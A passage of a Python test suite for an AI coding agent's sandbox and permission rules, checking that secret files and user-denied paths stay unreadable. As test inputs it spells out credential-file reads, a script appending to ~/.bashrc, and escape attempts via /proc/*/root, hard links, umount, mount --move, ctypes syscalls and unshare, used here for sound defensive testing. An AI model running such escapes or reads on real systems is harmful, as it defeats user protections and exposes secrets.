             "tinypkg-0.1.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\n"
                                           "Tag: py3-none-any\n"}
    record = ""
    for name, content in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(content.encode()).digest()).rstrip(b"=").decode()
        record += f"{name},sha256={digest},{len(content)}\n"
    path = directory / "tinypkg-0.1-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as wheel:
        for name, content in files.items():
            wheel.writestr(name, content)
        wheel.writestr("tinypkg-0.1.dist-info/RECORD", record + "tinypkg-0.1.dist-info/RECORD,,\n")
    return path


def test_an_approved_pip_install_can_install_where_pip_installs_and_an_unapproved_one_cannot(world):
    """The decision for `pip install` (network approved) opens the package locations; the same
    command run as an ordinary approved one is refused by the sandbox and told why."""
    import permissions
    make_wheel(world.project)
    (world.home / ".local").mkdir()
    command = ("python3 -m pip install -q --user --no-index --no-warn-script-location tinypkg-0.1-py3-none-any.whl"
               " && cd / && python3 -c 'import tinypkg; print(\"imported\", tinypkg.X)'")
    decision = permissions.decide("bash", {"command": command}, world.project, permissions.default_rules())
    assert decision.capability == "network.access" and decision.confine.network

    async def scenario(box):
        refused = await bash(box, command)                   # write to the project only
        installed = await bash(box, command, decision.confine)
        return refused, installed
    refused, installed = drive(world, scenario)
    assert "imported 1" not in refused.text and "sandbox" in refused.text.lower()
    assert "imported 1" in installed.text, installed.text


def test_the_users_own_shell_command_runs_unconfined(world):
    """`!cmd` is the user's command, not the model's: it reaches what the user can."""
    import khaelor
    target = world.home / "written-by-the-user.txt"

    async def scenario(box):
        return await box.run("bash", {"command": f"echo mine > {target}"}, "user", confine=khaelor.user_shell())
    drive(world, scenario)
    assert target.read_text() == "mine\n"


def test_every_env_file_that_asks_as_a_secret_has_its_values_masked(tmp_path):
    """One secret vocabulary (sandbox.py): .env.dist asks before it is read, so its values are
    masked in what the model sees as well; a template's are not."""
    names = (".env", ".env.dist", ".env.local", "prod.env", ".ENV", ".env.example", ".env.sample",
             ".envrc")
    for name in names:
        folder = tmp_path / name.replace(".", "_")
        folder.mkdir()
        # direnv's .envrc is a shell script: export KEY=value
        (folder / name).write_text("export " * (name == ".envrc") + "TOKEN=value-of-the-file\n")
        dotenv = tools._DotEnv(folder)
        dotenv.refresh()
        assert (dotenv.values == ["value-of-the-file"]) == sandbox.is_secret_name(name), name


def test_a_read_only_command_cannot_read_a_secret_file_whatever_its_case(world):
    """The sandbox closes the project's secret files by the vocabulary's patterns, matched as
    is_secret_name matches them: without regard to case (SERVER.PEM is a key as server.pem is)."""
    (world.project / "SERVER.PEM").write_text("upper-case-key-4242\n")
    confine = replace(READ_ONLY, hide=sandbox.SECRET_NAMES)
    read = f"{sys.executable} -c 'print(open(\"SERVER.PEM\").read())'"
    result = drive(world, lambda box: bash(box, read, confine))
    assert "upper-case-key-4242" not in result.text and "Permission denied" in result.text


def test_a_read_only_command_refused_a_secret_file_is_told_it_is_protected(world):
    secret = world.project / "config" / "prod.env"
    secret.parent.mkdir()
    secret.write_text("API_KEY=real-4242\n")
    confine = replace(READ_ONLY, hide=sandbox.SECRET_NAMES)
    result = drive(world, lambda box: bash(box, f"cat {secret}", confine))
    assert "real-4242" not in result.text and "Permission denied" in result.text
    assert f"access to {secret} (a protected location)" in result.text
    assert "write access" not in result.text


def test_a_template_of_a_secret_file_stays_readable_as_permissions_says(world):
    """.env.example holds no credentials: permissions lets it be read, so the sandbox does too."""
    (world.project / ".env.example").write_text("API_KEY=put-yours-here\n")
    (world.project / ".env").write_text("API_KEY=real-4242\n")
    assert not sandbox.is_secret_name(".env.example") and sandbox.is_secret_name(".env")
    confine = replace(READ_ONLY, hide=sandbox.SECRET_NAMES)
    result = drive(world, lambda box: bash(box, "cat .env.example; cat .env", confine))
    assert "put-yours-here" in result.text
    assert "real-4242" not in result.text and "Permission denied" in result.text


def test_each_seccomp_shape_is_built_once_and_its_bytes_do_not_change():
    """filter_for is a pure function of (write, network, supervised, may change metadata): the
    programs are cached, and a cached one is the very program a fresh build gives."""
    if not sandbox.seccomp_available():
        pytest.skip("no seccomp here")
    for write in (False, True):
        for network in (False, True):
            for supervised in (False, True):
                for paths_write in (False, True):
                    confine = sandbox.Confine(write=write, network=network,
                                              paths=("/tmp/x",), paths_write=paths_write)
                    program = sandbox.filter_for(confine, supervised)
                    metadata = write or paths_write
                    fresh = sandbox._filter.__wrapped__(write, network, supervised, metadata)
                    assert program == fresh
                    assert sandbox.filter_for(confine, supervised) is program
    read_only = sandbox.filter_for(sandbox.Confine(write=False), False)
    shadow = sandbox.Confine(write=False, paths=("/x",), paths_write=True)
    assert read_only != sandbox.filter_for(shadow, False)
    tcp_only = sandbox.filter_for(sandbox.Confine(write=True), True)
    assert tcp_only != sandbox.filter_for(sandbox.Confine(write=True), False)


def test_only_a_network_command_gets_the_proxies_and_none_the_ssh_agent():
    """The agent signs as the user for any host; no confined command could reach its socket."""
    environ = {"PATH": "/usr/bin", "HTTPS_PROXY": "http://proxy:3128", "SSH_AUTH_SOCK": "/tmp/agent"}
    online = sandbox.child_environment(environ, [], True, "/home/u")
    offline = sandbox.child_environment(environ, [], False, "/home/u")
    assert online["HTTPS_PROXY"] == "http://proxy:3128" and "HTTPS_PROXY" not in offline
    assert "SSH_AUTH_SOCK" not in online and "SSH_AUTH_SOCK" not in offline


# ---------------------------------------------------------------- the user's rules on reading paths


def judged(world, rules, tool, tool_input):
    """What `tool_input` gets from permissions: the decision's sandbox (an ask as the user approved)."""
    decision = permissions.decide(*tools.permission_subject(tool, tool_input), world.project, rules)
    assert decision.action != "deny", (tool_input, decision.reason)
    return decision.confine


@pytest.mark.parametrize("rule", [{"capability": "file.read", "pattern": "secrets/*", "action": "deny"},
                                  "Read(./secrets/**)", "Read(./secrets)"])
def test_a_path_the_user_denies_reading_is_read_by_no_search_and_no_command(world, rule):
    """A deny of reading secrets/ was kept when a call named it, but a search of the whole project
    (the grep tool without a path, a silent `grep -r`) printed its keys, and so did a command that
    names it where the parser cannot see (a script) once approved: the sandbox now
    closes what the user's read rules deny to every command, as it closes secret files."""
    (world.project / "secrets").mkdir()
    (world.project / "secrets" / "prod.cfg").write_text("MARKER-4242\n")
    (world.project / "app.py").write_text("MARKER = 'visible'\n")
    if isinstance(rule, dict):
        rules = permissions.load_rules([("config.json", {"permissions": [rule]})])
    else:
        text = json.dumps({"permissions": {"deny": [rule]}})
        rules = permissions.load_rules([permissions.claude_layer("settings.json", text, world.project)])
    python = f"{sys.executable} -c"
    commands = ["grep -r MARKER .", f"{python} \"print(open('secrets/prod.cfg').read())\"",
                f"{python} \"import shutil; shutil.copy('secrets/prod.cfg', 'copy.txt')\"; "
                "cat copy.txt; echo written > new.txt"]

    async def scenario(box):
        results = []
        for tool, args in (("grep", {"pattern": "MARKER"}), ("glob", {"pattern": "**/*"})):
            results.append(await box.run(tool, args, "t1", confine=judged(world, rules, tool, args)))
        for command in commands:
            results.append(await bash(box, command, judged(world, rules, "bash", {"command": command})))
        return results
    results = drive(world, scenario)
    for found in results[:2]:       # the file is named as left out, and only so
        assert "app.py" in found.text and "1 secret file left out: secrets/prod.cfg." in found.text
        assert "secrets/prod.cfg" not in found.text.split("\n\n(")[0]
    assert "access to" in results[2].text and "(a protected location)" in results[2].text
    for result in results:
        assert "MARKER-4242" not in result.text
    assert "visible" in results[2].text
    assert (world.project / "new.txt").read_text() == "written\n"      # an approved command still writes beside it


@pytest.mark.skipif(not sandbox.mount_namespace_available(), reason="no mount namespace here")
def test_a_denied_file_is_not_carried_out_from_under_its_rule(world):
    """The user's rule names a path: an approved command moved the folder that holds the file
    (mv conf conf2), and the next command read it at its new path. The folders on its way are
    mount points to an approved command now, which stay where they are; the rest still changes."""
    (world.project / "conf").mkdir()
    (world.project / "conf" / "prod.yaml").write_text("password: MARKER-4242\n")
    denied = [re.escape("conf/prod.yaml")]
    move = "echo new > conf/other; mv conf conf2; mv conf $TMPDIR/conf; rmdir conf"

    async def scenario(box):
        moved = await bash(box, move, deny_paths=denied)
        read = "cat conf2/prod.yaml $TMPDIR/conf/prod.yaml"
        return moved, await bash(box, read, READ_ONLY, deny_paths=denied)
    moved, read = drive(world, scenario)
    assert "Device or resource busy" in moved.text, moved.text
    assert (world.project / "conf" / "prod.yaml").read_text() == "password: MARKER-4242\n"
    assert (world.project / "conf" / "other").read_text() == "new\n"
    assert "MARKER-4242" not in moved.text + read.text and not (world.project / "conf2").exists()


def test_a_path_the_user_asks_about_is_read_only_once_the_user_saw_it_named(world):
    """An ask rule on reading: no silent search reads it; a command that names it asks, and
    once approved reads it."""
    (world.project / "secrets").mkdir()
    (world.project / "secrets" / "prod.cfg").write_text("MARKER-4242\n")
    text = json.dumps({"permissions": {"ask": ["Read(./secrets/**)"]}})
    rules = permissions.load_rules([permissions.claude_layer("settings.json", text, world.project)])
    search = {"command": "grep -r MARKER ."}
    named = {"command": "cat secrets/prod.cfg"}
    assert permissions.decide(*tools.permission_subject("bash", search), world.project, rules).action == "allow"
    assert permissions.decide(*tools.permission_subject("bash", named), world.project, rules).action == "ask"

    async def scenario(box):
        grep = await box.run("grep", {"pattern": "MARKER"}, "t1",
                             confine=judged(world, rules, "grep", {"pattern": "MARKER"}))
        return grep, await bash(box, search["command"], judged(world, rules, "bash", search)), \
            await bash(box, named["command"], judged(world, rules, "bash", named))
    grep, searched, approved = drive(world, scenario)
    assert "MARKER-4242" not in grep.text and "MARKER-4242" not in searched.text
    assert "MARKER-4242" in approved.text


def test_an_outside_path_an_approved_line_only_reads_stays_read_only_to_it(world):
    """An approved `cat ~/.bashrc > out.txt && python3 plant.py` read ~/.bashrc, and the script,
    which names no path, could append to it (code in every shell the user starts): every outside
    path an approved command named was writable. A path the line writes, or hands to a program
    that may, still is."""
    rc = world.home / ".bashrc"
    rc.write_text("# rc\n")
    (world.project / "plant.py").write_text(
        "import os, sys\ntry:\n    open(sys.argv[1] if sys.argv[1:] else os.path.expanduser("
        "'~/.bashrc'), 'a').write('PLANTED\\n')\nexcept OSError as error:\n    print(error)\n")
    rules = permissions.default_rules()
    line = {"command": f"cat {rc} > out.txt && {sys.executable} plant.py"}
    named = {"command": f"{sys.executable} plant.py {rc}"}

    async def scenario(box):
        return (await bash(box, line["command"], judged(world, rules, "bash", line)),
                await bash(box, named["command"], judged(world, rules, "bash", named)))
    planted, written = drive(world, scenario)
    assert (world.project / "out.txt").read_text() == "# rc\n"
    assert "Permission denied" in planted.text or "Read-only file system" in planted.text, planted.text
    assert rc.read_text() == "# rc\nPLANTED\n", written.text


def test_approving_a_read_an_ask_rule_names_opens_that_path_and_no_secret_file(world):
    """A repository's own settings may add an ask at once (untrusted: it only tightens). Approving
    `cat README.md; git grep …` for the README that rule asks about opened every secret file of the
    project to the line: git grep printed a tracked secrets.yml no question had named."""
    (world.project / "README.md").write_text("hello\n")
    (world.project / "secrets.yml").write_text("token: MARKER-5150\n")
    git = ["git", "-C", str(world.project), "-c", "user.name=a", "-c", "user.email=a@b"]
    for step in (["init", "-q"], ["add", "-A"], ["commit", "-qm", "x"]):
        subprocess.run(git + step, check=True, capture_output=True)
    text = json.dumps({"permissions": {"ask": ["Read(README.md)"]}})
    layer = permissions.claude_layer(".claude/settings.json", text, world.project, "project", False)
    rules = permissions.load_rules([layer])
    line = {"command": "cat README.md; git grep -h MARKER"}
    assert permissions.decide(*tools.permission_subject("bash", line), world.project, rules).action == "ask"

    async def scenario(box):
        return await bash(box, line["command"], judged(world, rules, "bash", line))
    approved = drive(world, scenario)
    assert "hello" in approved.text and "MARKER-5150" not in approved.text, approved.text


@pytest.mark.parametrize("rule, denied", [("Read(./.env)", ".env"), ("Read(./secrets)", "secrets/prod.cfg"),
                                          ("Read(./secrets/**)", "secrets/prod.cfg")])
def test_an_approved_command_reads_and_runs_what_it_makes_beside_a_denied_file_and_never_that_file(world, rule,
                                                                                                  denied):
    """Landlock only adds rights, so the folder above a denied file lost reading for all it held:
    with `Read(./.env)` denied, a first `npm install`, `make` or `mkdir d && echo x > d/f && cat d/f`
    failed at the project root. An approved command's namespace now covers the denied file instead,
    and no other way reaches it: not /proc/self/root (nor khaelor's, outside the namespace), a hard link
    made before, umount, mount --move, a rename."""
    target = world.project / denied
    target.parent.mkdir(exist_ok=True)
    target.write_text("TOKEN=MARKER-7319\n")
    os.link(target, world.project / "notes.txt")
    text = json.dumps({"permissions": {"deny": [rule]}})
    rules = permissions.load_rules([permissions.claude_layer("settings.json", text, world.project)])
    made = "mkdir d && echo x > d/f && cat d/f && printf '#!/bin/sh\\necho ran' > s && chmod +x s && ./s"
    folder = os.path.dirname(denied) or "."
    python = f"{sys.executable} -c"
    ways = {"cat": f"cat {denied}", "python": f"{python} \"print(open('{denied}').read())\"",
            "root": f"cat /proc/self/root{world.project}/{denied}", "link": "cat notes.txt",
            "other": f"cat /proc/1/root{world.project}/{denied} "
                     f"/proc/$PPID/root{world.project}/{denied}",
            "umount": f"umount {denied}; umount -l {denied}; umount -l {folder}; cat {denied}",
            "move": f"mkdir m; touch e; mount --move {denied} e; mount --move {folder} m; "
                    f"cat e m/{target.name} {denied}",
            "syscalls": f"{python} \"import ctypes; c = ctypes.CDLL(None); c.umount2(b'{denied}', 2); "
                        f"open('e2', 'w').close(); c.mount(b'{denied}', b'e2', None, 0x2000, None); "
                        f"print(open('{denied}').read())\"",      # umount2(MNT_DETACH), MS_MOVE
            "rename": f"mv {denied} moved; cat moved",
            "folder": f"mv {folder} gone; cat gone/{target.name}",
            "unshare": f"unshare -rm sh -c 'umount -l {denied}; cat {denied}'"}
    # what each way read is kept in a file: a tool's output masks the values of .env files
    commands = [made] + [f"({way}) > out-{name} 2>&1" for name, way in ways.items()]
    confine = judged(world, rules, "bash", {"command": made})   # as a script doing each is approved

    async def scenario(box):
        return [await bash(box, command, confine) for command in commands]
    results = drive(world, scenario)
    assert "x\nran" in results[0].text and "Exit code: 0" in results[0].text
    for name in ways:
        assert "MARKER" not in (world.project / f"out-{name}").read_text(), name
    assert not (world.project / "moved").exists()      # a cover is no file one renames


SECOND_MOUNT = """
import sys
from pathlib import Path
from types import SimpleNamespace
sys.path[:0] = {path!r}
import permissions, test_sandbox
world = SimpleNamespace(project=Path({project!r}), khaelor_home=Path({khaelor_home!r}))
rules = permissions.load_rules([permissions.claude_layer("settings.json", {text!r}, world.project)])
confine = test_sandbox.judged(world, rules, "bash", {{"command": "make"}})
test_sandbox.drive(world, lambda box: test_sandbox.bash(box, {command!r}, confine))
"""


@pytest.mark.skipif(subprocess.run(["unshare", "-rm", "true"], capture_output=True).returncode != 0,
                    reason="no user namespace to bind the project a second time in")
@pytest.mark.parametrize("rule, denied, bound", [("Read(./.env)", ".env", "."),
                                                 ("Read(./secrets)", "secrets/sub/key", "secrets/sub")])
def test_a_denied_file_is_covered_too_where_a_second_mount_shows_it(world, rule, denied, bound):
    """Covering a denied file is a mount at its path: where the same folder shows at a second place (the
    project bound there too, a btrfs pool's top mounted as well, a folder of it bound elsewhere) an
    approved command read it there."""
    (world.project / denied).parent.mkdir(parents=True, exist_ok=True)
    (world.project / denied).write_text("TOKEN=MARKER-7319\n")
    # a system folder every command reads (/var), where Landlock's walk up meets no rule otherwise
    second = Path(tempfile.mkdtemp(dir="/var/tmp"))
    text = json.dumps({"permissions": {"deny": [rule]}})
    command = f"cat {second}/{os.path.relpath(denied, bound)} > out 2>&1"
    script = SECOND_MOUNT.format(path=sys.path, project=str(world.project), text=text, command=command,
                                 khaelor_home=str(world.khaelor_home))
    try:
        subprocess.run(["unshare", "-rm", "sh", "-c", 'mount --bind "$1" "$2" && exec "$3" -c "$4"', "sh",
                        world.project / bound, second, sys.executable, script], check=True, cwd=world.project)
    finally:
        second.rmdir()
    assert "Permission denied" in (world.project / "out").read_text()
